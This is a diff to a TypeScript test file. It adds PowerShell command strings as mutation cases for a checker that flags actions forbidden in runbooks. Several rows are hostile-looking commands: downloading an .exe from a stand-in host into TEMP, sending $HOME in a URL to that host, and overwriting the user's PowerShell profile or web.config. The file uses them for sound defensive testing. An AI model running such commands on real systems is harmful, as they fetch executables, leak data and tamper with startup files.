@@ -13,8 +13,35 @@ const newer: Rows = [
   ['Test-NetConnection a -Port 443', 'the cmdlet `Test-NetConnection`'],
 ];
 
+/** Files that Windows runs, or may run. */
+const runnable: Rows = [
+  [
+    'Copy-Item C:\\a\\b.ps1 "$env:TEMP\\b.ps1"',
+    '`Copy-Item` of a file that may be run, expected a file that Windows does not run',
+  ],
+  ['Copy-Item C:\\a\\b.txt "$env:TEMP\\b.ps1"', '`Copy-Item` of a file that may be run'],
+  ['Copy-Item C:\\a\\b.config C:\\c\\web.config -Force', '`Copy-Item`, which overwrites'],
+  [
+    'Copy-Item C:\\a.txt "$env:USERPROFILE\\Documents\\WindowsPowerShell\\profile.ps1"',
+    '`Copy-Item` of a file',
+  ],
+  ['$b = Get-Content C:\\a.txt; Copy-Item C:\\c.txt "$env:TEMP\\$b"', '`Copy-Item` of a file'],
+  [
+    "foreach ($f in Get-ChildItem C:\\a -Filter '*.ps1') { Copy-Item $f.FullName $env:TEMP }",
+    '`Copy-Item` of a file',
+  ],
+  [
+    '(New-Object Net.WebClient).DownloadFile(\'https://x.example/a\', "$env:TEMP\\a.exe")',
+    '`.DownloadFile()` of a file',
+  ],
+  [
+    '(New-Object Net.WebClient).DownloadFile("https://x.example/$HOME", "$env:TEMP\\a.txt")',
+    '`.DownloadFile()` with a text',
+  ],
+];
+
 /** What a command does that no runbook may do, or that Windows PowerShell 3.0 cannot. */
 export const deedMutations: readonly Mutation[] = inFile(
   file,
-  [...newer].map(([text, found]) => [line, `    ${text}\n${line}`, found]),
+  [...newer, ...runnable].map(([text, found]) => [line, `    ${text}\n${line}`, found]),
 );
